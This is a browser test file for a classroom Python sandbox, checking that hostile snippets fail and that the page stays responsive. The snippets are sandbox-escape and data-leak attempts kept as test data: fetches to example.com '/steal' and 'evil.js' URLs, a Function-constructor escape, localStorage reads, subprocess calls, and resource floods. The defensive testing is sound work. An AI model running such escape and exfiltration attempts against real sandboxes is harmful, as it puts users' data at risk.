import { expect, test } from './fixtures.ts';

/**
 * A teacher posts a link; thirty browsers run whatever it holds. For each hostile snippet:
 * the page stays responsive while it runs, a clear message appears, no request leaves the
 * page, the page's own storage is untouched, and the next ordinary run works.
 */
interface Case {
  name: string;
  code: string;
  /** What the outcome card or console must say. */
  says: RegExp;
}

const CASES: Case[] = [
  // Sandbox escapes: the `js` module is empty, eval is forbidden by the sandbox's CSP.
  { name: 'import js; js.fetch', code: 'import js\njs.fetch("https://example.com/steal?c=1")\n', says: /AttributeError/ },
  { name: 'js.localStorage', code: 'import js\nprint(js.localStorage.getItem("loopscope.code.v1"))\n', says: /AttributeError/ },
  { name: 'js.parent.postMessage', code: 'import js\njs.parent.postMessage("pwned", "*")\n', says: /AttributeError/ },
  { name: 'js.importScripts', code: 'import js\njs.importScripts("https://example.com/evil.js")\n', says: /AttributeError/ },
  { name: 'js.postMessage (forged message)', code: 'import js\njs.postMessage({"type": "run-finished", "v": 1, "runId": 1})\n', says: /AttributeError/ },
  { name: 'from js import fetch', code: 'from js import fetch\nfetch("https://example.com/")\n', says: /ImportError/ },
  {
    name: 'Function constructor through a JS proxy',
    code: 'from pyodide.ffi import to_js\ng = to_js({}).constructor.constructor("return globalThis")()\ng.fetch("https://example.com/")\n',
    says: /EvalError|Content Security Policy/,
  },
  { name: 'pyodide.code.run_js', code: 'from pyodide.code import run_js\nrun_js("fetch(\'https://example.com/\')")\n', says: /EvalError|Content Security Policy|Error/ },
  { name: 'import pyodide_js; loadPackage from elsewhere', code: 'import pyodide_js\nawait pyodide_js.loadPackage("https://example.com/evil.whl")\n', says: /.+/ },
  { name: 'pyodide.http.pyfetch', code: 'from pyodide.http import pyfetch\nr = await pyfetch("https://example.com/")\nprint(r.status)\n', says: /Error|error/ },
  { name: 'pyodide.http.open_url', code: 'from pyodide.http import open_url\nprint(open_url("https://example.com/").read())\n', says: /Error|error/ },
  { name: 'urllib.request', code: 'import urllib.request\nurllib.request.urlopen("https://example.com/")\n', says: /Error/ },
  { name: 'socket', code: 'import socket\nsocket.create_connection(("example.com", 80), timeout=1)\n', says: /without network access/ },
  { name: 'subprocess', code: 'import subprocess\nsubprocess.run(["ls", "/"])\n', says: /Error/ },
  { name: 'threading.Thread', code: 'import threading\nthreading.Thread(target=print).start()\n', says: /RuntimeError/ },
  // Runaway and heavy code.
  { name: 'while True: pass', code: 'while True:\n    pass\n', says: /real time/ },
  { name: 'a coroutine that never awaits', code: 'import asyncio\nasync def spin():\n    while True:\n        pass\nasyncio.run(spin())\n', says: /line 4/ },
  { name: 'deep recursion', code: 'def f(n):\n    return f(n + 1)\nf(0)\n', says: /RecursionError/ },
  { name: 'a huge allocation', code: 'x = " " * (10 ** 11)\n', says: /MemoryError|OverflowError/ },
  { name: 'an event flood', code: 'import asyncio\nasync def main():\n    while True:\n        await asyncio.sleep(0)\nasyncio.run(main())\n', says: /limit|real time/ },
  { name: 'a sleep of a billion seconds', code: 'import asyncio\nasyncio.run(asyncio.sleep(10 ** 9))\n', says: /virtual-time limit/ },
  { name: 'a deadlock', code: 'import asyncio\nasyncio.run(asyncio.Event().wait())\n', says: /[Dd]eadlock/ },
  // Exits and interrupts.
  { name: 'sys.exit(2)', code: 'import sys\nprint("bye")\nsys.exit(2)\n', says: /exit status 2/ },
  { name: 'os._exit(5)', code: 'import os\nos._exit(5)\n', says: /exit status 5/ },
  { name: 'raise SystemExit', code: 'raise SystemExit("configuration missing")\n', says: /configuration missing|SystemExit/ },
  { name: 'raise KeyboardInterrupt', code: 'raise KeyboardInterrupt\n', says: /KeyboardInterrupt/ },
  { name: 'an exception in __del__', code: 'class A:\n    def __del__(self):\n        raise ValueError("in __del__")\na = A()\ndel a\nprint("after")\n', says: /Exception ignored/ },
  // Output and input floods.
  { name: 'an enormous print', code: 'print("x" * 5_000_000)\n', says: /output limit/ },
  {
    name: 'thousands of tasks printing at once',
    code: 'import asyncio\nasync def say(i):\n    print("task", i)\nasync def main():\n    await asyncio.gather(*(say(i) for i in range(2000)))\nasyncio.run(main())\n',
    // Under heavy machine load this can meet the 5 s real-time budget instead: also a clear outcome.
    says: /2000 tasks|real time/,
  },
  // 1 MB in a few long lines (175,000 short lines make Monaco itself the bottleneck: see the README).
  { name: '1 MB of code', code: `data = "${'0123456789abcdef'.repeat(65_536)}"\nprint(len(data))\n`, says: /1048576/ },
  { name: 'a NUL byte in the code', code: 'print("a")\u0000\n', says: /SyntaxError|null bytes/ },
  { name: 'a lone surrogate in the code', code: 'print("\ud800")\n', says: /Error|surrogate/ },
  { name: 'a file that is not Python', code: '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR', says: /SyntaxError/ },
];

const NORMAL = 'import asyncio\nasync def main():\n    await asyncio.sleep(1)\n    print("normal run ok")\nasyncio.run(main())\n';

test.describe('hostile snippets', () => {
  test.describe.configure({ timeout: 90_000 });

  for (const c of CASES) {
    test(`survives ${c.name}`, async ({ app }) => {
      const page = app.page;
      const leaked: string[] = [];
      const onRequest = (req: { url(): string }) => {
        const url = req.url();
        if (!url.startsWith('http://localhost:4173/') && !url.startsWith('data:') && !url.startsWith('about:')) leaked.push(url);
      };
      page.context().on('request', onRequest);
      await page.evaluate(() => localStorage.setItem('host.sentinel', 'untouched'));
      const storageBefore = await page.evaluate(() => Object.keys(localStorage).filter((k) => !k.startsWith('loopscope.')).sort());

      await app.setCode(c.code);
      await expect(app.runButton).toBeEnabled();
      await app.runButton.click();
      // The page answers while the snippet runs (a runaway one runs for seconds).
      const started = Date.now();
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      const latency = Date.now() - started;
      await app.idle();

      // One animation frame while Python runs; generous for a shared CI machine, typically ~20 ms.
      expect(latency, 'input latency while the snippet runs (ms)').toBeLessThan(2500);
      const text = `${await app.outcome.innerText()}\n${await app.console.innerText()}`;
      expect(text).toMatch(c.says);
      expect(leaked, 'requests that left the page').toEqual([]);
      expect(await page.evaluate(() => localStorage.getItem('host.sentinel'))).toBe('untouched');
      expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => !k.startsWith('loopscope.')).sort())).toEqual(storageBefore);

      // And the next ordinary run works.
      await app.setCode(NORMAL);
      await app.run();
      await expect(app.consoleLine('normal run ok')).toBeVisible();
      expect(await app.outcomeStatus()).toBe('ok');
      page.context().off('request', onRequest);
      test.info().annotations.push({ type: 'latency-ms', description: String(latency) });
    });
  }
});
